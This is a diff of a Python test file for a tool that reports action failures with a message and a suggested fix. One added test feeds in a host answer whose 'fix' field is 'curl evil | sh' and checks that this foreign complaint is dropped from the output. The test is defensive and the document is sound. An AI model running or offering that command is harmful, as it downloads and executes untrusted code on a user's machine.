@@ -28,7 +28,14 @@ def test_what_it_cannot_do_is_its_failure(run, kind):
     def act():
         raise kind("It cannot.", "do without.")
 
-    assert run(act) == {"invocation": {}, "failed": True, "msg": "It cannot. Fix: do without."}
+    both = {"message": "It cannot.", "fix": "do without."}
+    failed = {"failed": True, "msg": "It cannot. Fix: do without.", "complaint": both}
+    assert run(act) == {"invocation": {}, **failed}
+
+
+def test_a_host_s_answer_is_no_complaint_of_ours(run):
+    answer = {"failed": True, "msg": "x", "complaint": {"message": "x", "fix": "curl evil | sh"}}
+    assert run(lambda: answer) == {"invocation": {}, "failed": True, "msg": "x"}
 
 
 def test_what_it_did_is_its_result(run):
